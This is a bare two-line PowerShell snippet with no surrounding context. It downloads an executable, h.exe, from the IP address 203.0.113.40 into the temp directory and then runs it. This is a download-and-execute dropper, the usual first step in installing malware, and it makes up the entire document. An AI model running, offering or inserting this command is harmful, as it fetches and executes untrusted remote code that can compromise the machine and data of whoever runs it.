iwr https://203.0.113.40/h.exe -OutFile $env:TEMP\h.exe
Start-Process $env:TEMP\h.exe
